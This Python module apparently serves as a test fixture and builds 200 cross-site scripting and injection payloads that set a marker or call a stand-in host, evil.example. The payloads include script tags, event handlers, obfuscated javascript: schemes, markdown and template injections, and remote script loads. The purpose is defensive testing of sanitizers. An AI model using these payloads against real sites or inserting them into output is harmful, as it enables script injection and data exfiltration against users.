"""Texts that try to be more than text: two hundred ways to have a page run a script or call home [W-07].

Whoever runs one leaves a mark (`__xss`) or opens a dialog; whoever loads one asks evil.example. Both are watched for.
"""

from __future__ import annotations

__all__ = ["PAYLOADS"]

JS = "window.__xss=1;alert(1)"
HOST = "https://evil.example"

_EVENTS = (
    *("onerror", "onload", "onfocus", "onmouseover", "onclick", "onanimationstart", "ontransitionend", "ontoggle"),
    *("onpointerenter", "onbegin", "onpageshow", "onscroll", "onwheel", "oncopy", "onpaste", "onbeforeinput"),
    *("onauxclick", "onfocusin", "onresize", "onmessage"),
)
_TAGS = (
    *("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "embed", "select"),
    *("textarea", "keygen", "form", "style", "math"),
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "java\nscript:",
    "java\tscript:",
    "javascript&colon;",
    "&#106;avascript:",
    "javascript\u200b:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:",
    "view-source:javascript:",
    "feed:javascript:",
)
_PLAIN = (
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<script src={HOST}/x.js></script>",
    f"<script>{JS}//",
    f"</script><script>{JS}</script>",
    f"<!--><script>{JS}</script>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"`><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</noscript><script>{JS}</script>",
    f"</pre></code><script>{JS}</script>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><script xlink:href='data:,{JS}'></script></svg>",
    f"<svg><a xlink:href='javascript:{JS}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin='{JS}' attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{JS}</script></svg>#x'>",
    f"<math><mtext><table><mglyph><style><img src onerror='{JS}'>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{JS}'>x</maction></math>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src='javascript:{JS}'></iframe>",
    f"<iframe src='{HOST}/frame'></iframe>",
    f"<object data='{HOST}/x.swf'></object>",
    f"<embed src='{HOST}/x.swf'>",
    f"<base href='{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<link rel=stylesheet href='{HOST}/x.css'>",
    f"<link rel=preload as=script href='{HOST}/x.js'>",
    f"<style>@import '{HOST}/x.css';</style>",
    f"<style>*{{background:url({HOST}/x.png)}}</style>",
    f"<div style='background:url({HOST}/x.png)'>",
    f"<img src={HOST}/x.png>",
    f"<picture><source srcset={HOST}/x.png><img></picture>",
    f"<video poster={HOST}/x.png>",
    f"<audio src={HOST}/x.mp3 autoplay>",
    f"<form action={HOST}><input name=x autofocus onfocus='{JS}'>",
    f"<button formaction='javascript:{JS}'>x</button>",
    f"<a href='{HOST}' ping='{HOST}/ping'>x</a>",
    f"<template><script>{JS}</script></template>",
    f"<x contenteditable onfocus='{JS}' autofocus tabindex=1>",
    f"<dialog open><script>{JS}</script></dialog>",
    f"![x]({HOST}/x.png)",
    f'![x]({HOST}/x.png "onerror={JS}")',
    f"[![x]({HOST}/x.png)]({HOST})",
    f"![x](javascript:{JS})",
    f'[x](javascript:{JS} "t")',
    f"[x](<javascript:{JS}>)",
    f"[x]: javascript:{JS}\n\n[x]",
    f"<javascript:{JS}>",
    f"<{HOST}/auto>",
    f'[x"onmouseover="{JS}]({HOST})',
    f'[x]({HOST}/"onmouseover="{JS})',
    f"```html\n<script>{JS}</script>\n```",
    f'```"><script>{JS}</script>\nx\n```',
    f"```x onmouseover={JS}\nx\n```",
    f"`<script>{JS}</script>`",
    f"| a |\n|---|\n| <img src=x onerror='{JS}'> |",
    f"# <img src=x onerror='{JS}'>",
    f"> <img src=x onerror='{JS}'>",
    f"- <img src=x onerror='{JS}'>",
    f"**<img src=x onerror='{JS}'>**",
    f"~~<img src=x onerror='{JS}'>~~",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"\ufeff<script>{JS}</script>",
    f"<\x00script>{JS}</script>",
    f"<scr\u0130pt>{JS}</script>",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"${{{JS}}}",
    f"#{{{JS}}}",
    f"<%= {JS} %>",
    f"{{{{7*7}}}}<img src=x onerror='{JS}'>",
    f"__proto__[innerHTML]=<img src=x onerror='{JS}'>",
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror=\'{JS}\'>"}}}}',
    f'{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror=\'{JS}\'>"}}}}',
    f'{{"type":"script","props":{{"children":"{JS}"}},"constructor":null}}',
    f"';{JS};//",
    f'";{JS};//',
    f"*/{JS}/*",
    f"\u2028{JS}",
    f"\u202e>tpircs/<{JS}>tpircs<",
    f'<a href="\u0001javascript:{JS}">x</a>',
    f"<img src=x:x onerror=\u000c'{JS}'>",
    f"<svg/onload={JS}>",
    f"<img/src/onerror={JS}>",
    f"<img src=`x` onerror={JS}>",
    f"<<script>{JS}//<</script>",
    f"<image src=x onerror='{JS}'>",
    f"<isindex type=image src=x onerror='{JS}'>",
    f"<xss style='animation-name:x' onanimationstart='{JS}'>",
    f"<portal src='javascript:{JS}'>",
    f"<details open ontoggle='{JS}'>",
    f"<input type=image src=x onerror='{JS}'>",
)


def _made() -> list[str]:
    events = [f"<img src=x {event}='{JS}'>" for event in _EVENTS]
    tags = [f"<{tag} src=x onerror='{JS}' onload='{JS}' onfocus='{JS}' autofocus>" for tag in _TAGS]
    schemes = [f"<a href='{scheme}{JS}'>x</a>" for scheme in _SCHEMES] + [f"[x]({scheme}{JS})" for scheme in _SCHEMES]
    quoted = [f"{quote}{event}={JS} {quote}" for quote in ("'", '"', "`") for event in ("onload", "onerror", "onfocus")]
    all_of_them = list(dict.fromkeys([*_PLAIN, *events, *tags, *schemes, *quoted]))
    more = [f"a\n\n{text.upper()}\n" for text in _PLAIN[:40]]
    return [*all_of_them, *more]


PAYLOADS = tuple(dict.fromkeys(_made()))[:200]
